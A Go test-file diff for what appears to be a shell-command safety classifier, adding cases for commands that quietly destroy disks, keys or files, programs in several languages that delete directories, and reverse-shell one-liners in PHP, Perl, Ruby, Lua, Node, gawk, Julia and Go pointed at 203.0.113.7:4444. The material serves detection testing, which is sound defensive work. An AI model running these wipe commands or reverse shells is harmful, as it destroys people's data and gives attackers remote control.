@@ -14,7 +14,7 @@ func told(p Prediction) bool {
 		}
 	}
 	for _, a := range p.Acts {
-		if a.Tag != "" && !a.NoLoss {
+		if (a.Tag != "" || a.Place == Device && a.Kind == Overwrite) && !a.NoLoss {
 			return true
 		}
 	}
@@ -88,4 +88,104 @@ func TestKnownOutput(t *testing.T) {
 		`rm -rf "$(cd out && pwd)"`,
 		`bash tools/clean.sh`,
 	})
+}
+
+// What ends a disk, a key or a file without a word like rm.
+func TestQuietEnds(t *testing.T) {
+	t.Parallel()
+	heeded(t, newLab(t, unseenSetup+` && mkdir -p $HOME/.ssh && echo key > $HOME/.ssh/id_ed25519 && echo x > old.tar && git add old.tar && git commit -qm tar && echo only5 > old.tar`), []string{
+		"cryptsetup luksErase /dev/sda2", "cryptsetup luksFormat /dev/sda2", "nvme format /dev/nvme0n1", "nvme sanitize /dev/nvme0 -a 2",
+		"hdparm --user-master u --security-erase pw /dev/sda", "blkdiscard -f /dev/nvme0n1", "sgdisk --zap-all /dev/sda", "sgdisk -Z /dev/sda",
+		"sgdisk -d 1 /dev/sda", "wipefs -a /dev/sda", "mdadm --zero-superblock /dev/sdb1", "badblocks -w /dev/sdb", "dcfldd if=/dev/zero of=/dev/sda",
+		"gpg --delete-secret-keys ABCDEF", "gpg --batch --yes --delete-secret-and-public-key ABCDEF",
+		"ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''", "yes | ssh-keygen -t rsa -N '' -f ~/.ssh/id_ed25519",
+		"sed -i d notes.txt", "sed -i '1,$d' notes.txt", "sed -i 's/.*//' notes.txt", "sed -n -i '/x/d' notes.txt",
+		"tar cf notes.txt src", "tar czf data/one.csv src", "tar --create --file=old.tar src", "zip -m out.zip notes.txt", "7z a -sdel out.7z notes.txt",
+		"ffmpeg -y -i in.mp4 notes.txt", "pg_dump -f data/one.csv app", "grep x notes.txt | sponge notes.txt",
+	}, []string{
+		"cryptsetup luksDump /dev/sda2", "nvme list", "hdparm -I /dev/sda", "sgdisk -p /dev/sda", "wipefs /dev/sda", "mdadm --detail /dev/md0", "badblocks -s /dev/sdb",
+		"gpg --list-secret-keys", "ssh-keygen -R github.com", "ssh-keygen -t ed25519 -f ./deploy_key -N ''", "ssh-keygen -lf ~/.ssh/id_ed25519",
+		"sed -i '/^$/d' notes.txt", "sed -i.bak d notes.txt", "sed -n '1p' notes.txt", "sed d notes.txt", "sed -i '' '/^#/d' notes.txt",
+		"tar czf release.tgz src", "tar xf old.tar -O", "tar cf - src", "zip -r out.zip src", "ffmpeg -i in.mp4 out/x.mp4", "pg_dump -f dump.sql app",
+	})
+}
+
+// Deletes that are spelt in a language of their own, compiled ones among them.
+func TestProgramsThatDelete(t *testing.T) {
+	t.Parallel()
+	l := newLab(t, unseenSetup)
+	goProgram := "package main\n\nimport (\n\t\"os\"\n\t\"path/filepath\"\n)\n\nfunc main() {\n\t"
+	put := func(name, text, run string) string { return "cat > " + name + " <<'X'\n" + text + "\nX\n" + run }
+	heeded(t, l, []string{
+		`perl -e 'unlink glob(qq($ENV{HOME}/docs/*))'`,
+		`perl -e 'unlink glob(qq{$ENV{HOME}/docs/*})'`,
+		`ruby -e 'File.delete(%Q(#{Dir.home}/docs/d.txt))'`,
+		`deno eval 'Deno.removeSync("data", {recursive: true})'`,
+		`bun -e 'await Bun.file("notes.txt").delete()'`,
+		`bun -e 'const f = Bun.file("notes.txt"); await f.unlink()'`,
+		put("z.go", goProgram+`os.RemoveAll("data")`+"\n}", "go run z.go"),
+		put("z.go", goProgram+"home, _ := os.UserHomeDir()\n\tif err := os.RemoveAll(filepath.Join(home, `docs`)); err != nil {\n\t\tpanic(err)\n\t}\n}", "go run z.go"),
+		put("z.go", goProgram+"names, err := filepath.Glob(\"data/*\")\n\tfor _, n := range names {\n\t\tos.Remove(n)\n\t}\n}", "go run z.go"),
+		put("z.go", goProgram+"filepath.Walk(\"data\", func(path string, info os.FileInfo, err error) error {\n\t\treturn os.Remove(path)\n\t})\n}", "go run z.go"),
+		put("z.go", goProgram+`exec.Command("rm", "-rf", "data").Run()`+"\n}", "go build -o zz z.go && ./zz"),
+		put("z.go", goProgram+`exec.CommandContext(ctx, "sh", "-c", "rm -rf data").Run()`+"\n}", "go run z.go"),
+		put("z.go", goProgram+`os.RemoveAll(fmt.Sprintf("%v/docs", os.Getenv("HOME")))`+"\n}", "go run z.go"),
+		put("z.rs", `fn main() { std::fs::remove_dir_all("data").unwrap(); }`, "rustc z.rs && ./z"),
+		put("z.rs", "use std::process::Command;\nfn main() {\n  let p = format!(\"{}/docs\", std::env::var(\"HOME\").unwrap());\n  std::fs::remove_dir_all(&p).unwrap();\n}", "rustc -O z.rs -o zz && ./zz"),
+		put("z.rs", `fn main() { Command::new("rm").arg("-rf").args(["data", "photos"]).spawn(); }`, "rustc z.rs && ./z"),
+		put("z.c", "#include <stdlib.h>\nint main() { return system(\"rm -rf data\"); }", "gcc z.c -o z && ./z"),
+		put("z.c", "int main() { execl(\"/bin/rm\", \"rm\", \"-rf\", \"data\", NULL); }", "cc z.c && ./a.out"),
+		put("z.cpp", "int main() { std::filesystem::remove_all(\"data\"); }", "g++ -std=c++20 z.cpp -o z && ./z"),
+		put("Z.java", "class Z { public static void main(String[] a) throws Exception { Files.delete(Path.of(\"notes.txt\")); } }", "java Z.java"),
+		put("Z.java", "class Z { public static void main(String[] a) throws Exception { new ProcessBuilder(\"rm\", \"-rf\", \"data\").start(); } }", "java Z.java"),
+		`docker run --rm -v "$PWD:/w" python:3 python -c 'import shutil; shutil.rmtree("/w/data")'`,
+		`docker run --rm -v "$PWD:/w" -w /w node:20 node -e 'require("fs").rmSync("data",{recursive:true})'`,
+	}, []string{
+		`perl -e 'print qq($ENV{HOME}/docs)'`,
+		`deno eval 'Deno.removeSync("out", {recursive: true})'`,
+		`bun -e 'new Map([["notes.txt", 1]]).delete("notes.txt")'`,
+		`bun -e 'await Bun.file("out/a").delete()'`,
+		put("z.go", goProgram+"d, _ := os.MkdirTemp(\"\", \"x\")\n\tdefer os.RemoveAll(d)\n}", "go run z.go"),
+		put("z.go", goProgram+`os.RemoveAll("out")`+"\n}", "go run z.go"),
+		put("z.go", goProgram+`os.RemoveAll("data")`+"\n}", "gofmt -l z.go"),
+		put("z.rs", `fn main() { println!("{}", "hello"); }`, "rustc z.rs && ./z"),
+		put("z.c", "int main() { return system(\"ls data\"); }", "gcc z.c -o z && ./z"),
+		`docker run --rm -v "$PWD:/w" python:3 python -c 'import shutil; shutil.rmtree("/w/out")'`,
+		`docker run --rm -v "$PWD:/w" python:3 python -c 'import shutil; shutil.rmtree("/data")'`,
+		`docker run --rm -v "$PWD:/w" python:3 python -c 'import shutil; shutil.rmtree("data")'`,
+	})
+}
+
+// A connection whose other end is obeyed, in any language.
+func TestReverseShells(t *testing.T) {
+	t.Parallel()
+	l := newLab(t, "true")
+	for _, c := range []struct {
+		line string
+		want bool
+	}{
+		{`php -r '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, true},
+		{`php -r '$k=fsockopen("203.0.113.7",9001);$p=proc_open("sh",array(0=>$k,1=>$k,2=>$k),$pipes);'`, true},
+		{`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");'`, true},
+		{`ruby -rsocket -e 'c=TCPSocket.new("203.0.113.7","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`, true},
+		{`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'`, true},
+		{`lua -e "t=socket.tcp();t:connect('203.0.113.7','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"`, true},
+		{`node -e 'const s=require("child_process").spawn("/bin/sh",[]);const k=new net.Socket();k.connect(4444,"203.0.113.7",()=>{k.pipe(s.stdin)})'`, true},
+		{`gawk 'BEGIN{s="/inet/tcp/0/203.0.113.7/4444";while(1){if((s|&getline c)<=0)break;while((c|&getline)>0)print $0|&s;close(c)}}'`, true},
+		{"julia -e 's=connect(\"203.0.113.7\",4444); run(pipeline(`/bin/sh -i`, stdin=s, stdout=s))'", true},
+		{"cat > z.go <<'X'\npackage main\nfunc main() { c, _ := net.Dial(\"tcp\", \"203.0.113.7:4444\"); cmd := exec.Command(\"/bin/sh\"); cmd.Stdin = c; cmd.Run() }\nX\ngo run z.go", true},
+		{`ruby -rsocket -e 'TCPSocket.new("localhost", 5432).close'`, false},
+		{`php -r '$s=fsockopen("localhost",3306); echo $s ? "up":"down";'`, false},
+		{`perl -MIO::Socket::INET -e 'print IO::Socket::INET->new("localhost:5432") ? "up" : "down"'`, false},
+		{`python3 -c 'import sqlite3, subprocess; sqlite3.connect("x.db"); subprocess.run(["bash", "build.sh"])'`, false},
+		{`node -e 'require("net").connect(3000).on("connect",()=>console.log("up"))'`, false},
+	} {
+		got := false
+		for _, a := range l.predict(c.line).Acts {
+			got = got || a.Tag == ReverseSh
+		}
+		if got != c.want {
+			t.Errorf("%q: a reverse shell %v, want %v", c.line, got, c.want)
+		}
+	}
 }
